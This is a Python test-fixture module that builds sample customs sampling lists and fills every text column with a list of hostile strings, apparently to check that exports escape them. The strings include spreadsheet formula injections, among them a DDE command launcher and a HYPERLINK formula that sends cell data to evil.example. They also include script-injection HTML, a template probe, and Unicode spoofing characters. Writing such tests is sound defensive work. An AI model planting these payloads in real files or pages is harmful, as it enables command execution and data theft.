"""Lists for the tests of their documents, some with names that smugglers could have written."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from typing import Any

import polars as pl

from configs.loader import load_settings
from pipelines.lists.fields import display_columns
from pipelines.lists.write import SAMPLING_LIST_SCHEMA

DAY = date(2026, 11, 20)
SETTINGS = load_settings()
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "{{ 7*7 }}{% raw %}",
    "http://evil.example/",
    "mailto:a@b.example",
    "internal:List!A1",
    "toy\u202egnp.exe",
    "iv\u200bo\u200dry\ufeff",
    "bell\x07 null\x00 escape\x1b[31m",
    "line\u2028separator\x85next\nnew",
    "z\u0361\u0489" * 60,
    "\U000e0041\U000e0042tags",
    "_x0041_ &amp; &#x41;",
    "👨‍👩‍👧 🏴‍☠️ 玩具",
    "الأطفال ألعاب",
    "𠮷野家 ",
    "x" * 10_000,
    "W" * 32_800,
    "\u3164\u115f\u2800",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\n=1+1",
    # Letters of another script that look the same, and what stands in for half a surrogate pair.
    "Аррlе сhаrgеr",
    "half a pair \ufffd",
    "\u2066hidden\u2069 \u061c\u200f",
    "ก็็็็็็็็็็",
)


TWO_LINES = [
    {"line_no": 1, "item_name": "儿童玩具", "hs_code": "9503008900", "quantity": 2.0, "unit": "piece",
     "total_price_cny": 8.5},
    {"line_no": 2, "item_name": "枪", "hs_code": "9303", "total_price_cny": 91.5},
]  # fmt: skip


def listed(rows: Iterable[dict[str, Any]]) -> pl.DataFrame:
    """Rows of a sampling list with what the documents show; ranks and numbers are given in their order."""
    defaults = {
        "customs_office": "4601", "line_no": 1, "risk": "undervaluation", "probability": 0.25,
        "expected_value_cny": 80.5, "selection": "risk", "inspection_probability": 1.0,
        "reason_1": "CNY 12.0/kg declared; 143 similar lines have a median of 148", "reason_2": "second",
        "reason_3": None, "item_name": "儿童玩具", "total_price_cny": 120.25, "expected_price_cny": 800.0,
        "gross_weight_kg": 1.234, "quantity": 3.0, "hs_code": "0103006000", "waybill_id": "0012345",
    }  # fmt: skip
    return pl.DataFrame(
        [
            dict.fromkeys(display_columns())
            | defaults
            | {"rank": rank, "declaration_id": f"I{rank:04d}"}
            | row
            for rank, row in enumerate(rows, start=1)
        ],
        schema=SAMPLING_LIST_SCHEMA | display_columns(),
    )


def hostile() -> pl.DataFrame:
    """Every hostile text in every column of text."""
    texts = [name for name, dtype in (SAMPLING_LIST_SCHEMA | display_columns()).items() if dtype == pl.String]
    free = set(texts) - {"customs_office", "risk", "selection", "shift", "list_id"}
    lines = [{"line_no": 1, "item_name": "toy"}, {"line_no": 2}]
    return listed(
        dict.fromkeys(free, text)
        | {"declaration_id": f"{text}", "lines": [line | {"item_model": text} for line in lines]}
        for text in HOSTILE
    )
